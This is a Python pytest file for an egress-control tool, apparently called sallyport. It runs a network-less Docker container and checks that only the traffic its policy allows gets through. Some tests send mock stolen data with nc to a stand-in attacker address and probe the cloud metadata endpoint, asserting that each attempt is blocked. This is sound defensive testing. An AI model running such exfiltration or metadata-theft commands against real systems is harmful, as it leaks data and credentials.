"""A docker container without a network, joined by `sallyport attach --pid`. Debian's docker.io, its daemon started here with directories,
a socket, a mount namespace and a cgroup of its own; no registry: the image is made of a few programs of this machine.

Where a docker daemon cannot run, the tests are skipped with what it said.
"""

import io
import json
import os
import re
import shutil
import signal
import subprocess
import tarfile
import tempfile
import time
from pathlib import Path

import pytest

from miniature import processes

POLICY = """policy: docker/1
rules:
  - id: web
    allow: GET,HEAD http://allowed.test/**
  - id: raw
    allow: tcp://raw.test:5432
"""
PROGRAMS = ["sh", "sleep", "cat", "env", "wget", "nc"]
FOREIGN_DNS = "192.0.2.8"
DAEMON = "dockerd"


def until(what, seconds):
    """Waits until `what()` holds; its last value."""
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        value = what()
        if value:
            return value
        time.sleep(0.05)
    return what()


def image_tar():
    """A root file system of PROGRAMS and the libraries that the loader says they need."""
    files = {}
    for program in PROGRAMS:
        path = os.path.realpath(shutil.which(program))
        files["/bin/" + program] = path
        listed = subprocess.run(["ldd", path], capture_output=True, text=True, timeout=10).stdout
        for library in re.findall(r"(/\S+) \(0x", listed):
            files[library] = os.path.realpath(library)
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as tar:
        for directory in ("tmp", "etc", "proc", "sys", "dev"):
            entry = tarfile.TarInfo(directory)
            entry.type, entry.mode = tarfile.DIRTYPE, 0o1777 if directory == "tmp" else 0o755
            tar.addfile(entry)
        for name, source in files.items():
            data = Path(source).read_bytes()
            entry = tarfile.TarInfo(name.lstrip("/"))
            entry.size, entry.mode = len(data), 0o755
            tar.addfile(entry, io.BytesIO(data))
    return out.getvalue()


class Docker:
    """A daemon and what it starts. After start(), `problem` says why there is none."""

    IMAGE = "sallyport-test:1"

    def __init__(self):
        self.problem, self.process, self.log = None, None, None
        self.dir = Path(tempfile.mkdtemp(prefix="sallyport-docker-", dir="/tmp"))
        self.group = "/" + self.dir.name
        self.socket = f"unix://{self.dir}/docker.sock"

    def start(self):
        """Takes less than a minute, also when something hangs."""
        missing = [p for p in (DAEMON, "docker", "containerd", "runc", *PROGRAMS) if not shutil.which(p)]
        if missing:
            self.problem = f"not installed: {', '.join(missing)}"
            return
        self._start()
        self.problem = self.problem or self._try_out()

    def _start(self):
        (self.dir / "daemon.json").write_text("{}")
        # Mounts of the daemon and its containers end with it; so does what it writes to /run and /etc/docker.
        script = ("mount -t tmpfs -o mode=755 none /run; if [ -d /etc/docker ]; then mount -t tmpfs none /etc/docker; fi; exec \"$@\"")
        argv = ["unshare", "--mount", "--propagation", "private", "--", "sh", "-c", script, "sh", DAEMON, "--config-file", self.dir / "daemon.json",
                "--data-root", self.dir / "data", "--exec-root", self.dir / "exec", "--pidfile", self.dir / "pid", "-H", self.socket,
                "--iptables=false", "--ip6tables=false", "--ip-forward=false", "--ip-masq=false", "--bridge=none", "--storage-driver=vfs",
                "--cgroup-parent", self.group]
        self.log = open(self.dir / "log", "wb")
        self.process = subprocess.Popen([str(a) for a in argv], stdin=subprocess.DEVNULL, stdout=self.log, stderr=self.log, start_new_session=True)
        until(lambda: self.process.poll() is not None or self.answers(), 15)
        if not self.answers():
            self.problem = "dockerd does not start: " + (self.dir / "log").read_text(errors="replace")[-600:]

    def answers(self):
        try:
            return self("version", check=False, timeout=5).returncode == 0
        except subprocess.TimeoutExpired:
            return False

    def _try_out(self):
        try:
            self("import", "-", self.IMAGE, input=image_tar(), timeout=15)
            ran = self("run", "--rm", "--network", "none", self.IMAGE, "/bin/sh", "-c", "exit 0", check=False, timeout=15)
        except (subprocess.SubprocessError, OSError) as error:
            return f"docker cannot make an image here: {error}"
        return None if ran.returncode == 0 else f"docker cannot run a container here: {ran.stderr.strip()}"

    def __call__(self, *arguments, check=True, input=b"", timeout=20):
        argv = ["docker", "-H", self.socket, *arguments]
        env = {"PATH": os.environ["PATH"], "HOME": str(self.dir)}
        done = subprocess.run(argv, input=input, capture_output=True, env=env, timeout=timeout)
        done.stdout, done.stderr = done.stdout.decode(errors="replace"), done.stderr.decode(errors="replace")
        assert not check or done.returncode == 0, done
        return done

    def _processes(self):
        """Everything that was started for this daemon, wherever it was reparented to."""
        found = set(processes.descendants(self.process.pid)) if self.process else set()
        for name in os.listdir("/proc"):
            try:
                if name.isdigit() and (str(self.dir).encode() in Path(f"/proc/{name}/cmdline").read_bytes() or
                                       self.group in Path(f"/proc/{name}/cgroup").read_text()):
                    found.add((int(name), processes.start_time(int(name))))
            except OSError:
                pass
        return {(pid, started) for pid, started in found if started is not None and pid != os.getpid()}

    def close(self):
        """Ends all of it by pid, also what is half started, and removes files and cgroups. What could not be removed."""
        all_of_it = self._processes()
        if self.process and self.process.poll() is None:
            self.process.terminate()
            try:
                self.process.wait(15)
            except subprocess.TimeoutExpired:
                self.process.kill()
                self.process.wait(5)
        stubborn = processes.end(all_of_it | self._processes())
        groups = [path for path in Path("/sys/fs/cgroup").glob("**" + self.group)]
        for group in groups:
            for path in sorted([group, *group.glob("**/")], reverse=True):
                until(lambda: _removed(path), 2)
        if self.log:
            self.log.close()
        shutil.rmtree(self.dir, ignore_errors=True)
        mounts = [line for line in Path("/proc/self/mountinfo").read_text().splitlines() if str(self.dir) in line]
        return [f"process {pid}" for pid in stubborn] + [str(g) for g in groups if g.exists()] + mounts + ([str(self.dir)] if self.dir.exists() else [])


def _removed(group):
    try:
        group.rmdir()
    except FileNotFoundError:
        return True
    except OSError:
        return False
    return True


@pytest.fixture(scope="module")
def docker():
    made = Docker()
    try:
        made.start()
        if made.problem:
            print(made.problem)
            pytest.skip(made.problem)
        yield made
    finally:
        left = made.close()
    assert not left, left


class Container:
    def __init__(self, docker, *options):
        self.docker = docker
        self.id = docker("run", "-d", "--network", "none", "--dns", FOREIGN_DNS, *options, docker.IMAGE, "/bin/sleep", "120").stdout.strip()
        self.pid = int(docker("inspect", "-f", "{{.State.Pid}}", self.id).stdout)

    def run(self, *argv, env=()):
        flags = [flag for pair in env for flag in ("-e", pair)]
        done = self.docker("exec", *flags, self.id, *argv, check=False, timeout=20)
        return done.returncode, done.stdout + done.stderr

    def sh(self, script):
        return self.run("/bin/sh", "-c", script)

    def wget(self, url, **how):
        return self.run("/bin/wget", "-nv", "-O", "-", "--tries=1", "--timeout=6", url, **how)

    def remove(self):
        self.docker("rm", "-f", self.id, check=False, timeout=30)


@pytest.fixture
def container(docker):
    made = []

    def start(*options):
        made.append(Container(docker, *options))
        return made[-1]

    yield start
    for each in made:
        each.remove()


class Attached:
    """`sallyport attach` in the foreground of the lab's appliance."""

    def __init__(self, lab, binaries, pid):
        self.dir = Path(tempfile.mkdtemp(prefix="sallyport-attach-", dir="/tmp"))
        policy = self.dir / "policy.yaml"
        policy.write_text(POLICY)
        self.state = self.dir / "state"
        self.run = lab.start([binaries.path("sallyport"), "attach", "--pid", pid, "--policy", policy, "--config", lab.config, "--state", self.state])
        until(lambda: b"attached and tested" in self.run.output()[1] or self.run.process.poll() is not None, 15)

    @property
    def said(self):
        return self.run.output()[1].decode()

    def records(self):
        return [json.loads(line) for line in (self.state / "audit.jsonl").read_text().splitlines()]

    def close(self):
        self.run.kill()
        shutil.rmtree(self.dir, ignore_errors=True)


@pytest.fixture
def attach(lab, binaries):
    made = []

    def start(pid):
        made.append(Attached(lab, binaries, pid))
        return made[-1]

    yield start
    for each in made:
        each.close()


@pytest.mark.timeout(120)
def test_a_container_without_a_network_gets_what_its_policy_allows(lab, docker, container, attach):
    box = container()
    before, _ = box.wget("http://allowed.test/")
    assert before != 0, "the control: the container itself has no network"
    attached = attach(box.pid)
    assert "attached and tested" in attached.said, attached.said

    code, said = box.wget("http://allowed.test/")
    assert code == 0 and "hello from allowed" in said, said
    code, said = box.sh("printf 'x\\r\\n\\r\\n' | nc -N -w 5 raw.test 5432")
    assert code == 0 and "HTTP/1.1 200" in said, said
    by_proxy = ["http_proxy=http://127.0.0.1:3128"]
    assert box.wget("http://allowed.test/", env=by_proxy)[0] == 0

    code, said = box.wget("http://denied.test/")
    assert code != 0 and "unable to resolve" in said, said
    code, said = box.wget("http://denied.test/", env=by_proxy)
    assert code != 0 and "403" in said and "no_rule" in said, said
    for literal in ("http://198.51.100.66/", "http://[2001:db8::66]/", "http://203.0.113.66/"):
        code, said = box.wget(literal)
        assert code != 0 and "403" in said and "literal_not_allowed" in said, (literal, said)
    assert box.wget("http://169.254.169.254/latest/meta-data/")[0] != 0
    code, said = box.sh("printf 'stolen\\r\\n\\r\\n' | nc -N -w 5 203.0.113.66 5432; printf stolen | nc -u -w 1 203.0.113.66 9999")
    assert "HTTP" not in said and "reached" not in said, said

    assert not lab.packets_to_unpermitted() and not lab.connections("attacker") and not lab.packets(dst="198.51.100.66")
    assert lab.names_asked() == {"allowed.test", "raw.test"}
    reasons = {r["reason"] for r in attached.records() if r.get("verdict") == "deny"}
    assert {"no_rule", "literal_not_allowed"} <= reasons, reasons


@pytest.mark.timeout(120)
def test_serving_ends_with_the_container_and_the_container_is_cut_off_with_it(lab, docker, container, attach):
    box = container()
    attached = attach(box.pid)
    assert box.wget("http://allowed.test/")[0] == 0, attached.said
    box.remove()
    done = attached.run.wait(15)
    assert done.exit == 0, done
    other = container()
    attached = attach(other.pid)
    assert other.wget("http://allowed.test/")[0] == 0, attached.said
    attached.run.signal(signal.SIGTERM)
    assert attached.run.wait(15).exit == 0
    cut_off(lab, other)


@pytest.mark.timeout(120)
def test_a_container_is_cut_off_when_the_proxy_is_killed(lab, docker, container, attach):
    box = container()
    attached = attach(box.pid)
    assert box.wget("http://allowed.test/")[0] == 0, attached.said
    proxy, = [pid for pid, _ in processes.descendants(attached.run.pid) if os.readlink(f"/proc/{pid}/exe").endswith("/sallyport-proxy")]
    os.kill(proxy, signal.SIGKILL)
    done = attached.run.wait(15)
    assert done.exit == 125 and "sallyport-proxy" in done.stderr, done
    cut_off(lab, box)


def cut_off(lab, box):
    lab.clear_records()
    assert box.wget("http://allowed.test/")[0] != 0 and box.wget("http://198.51.100.10/")[0] != 0
    assert not lab.packets()


@pytest.mark.timeout(120)
@pytest.mark.parametrize("capability", ["NET_ADMIN", "SYS_ADMIN"])
def test_a_container_that_could_undo_it_is_refused(lab, docker, container, attach, capability):
    box = container("--cap-add", capability)
    attached = attach(box.pid)
    done = attached.run.wait(15)
    assert done.exit == 125 and "CAP_" + capability in done.stderr and "attached and tested" not in done.stderr, done
    assert box.wget("http://allowed.test/")[0] != 0
    assert not lab.packets()
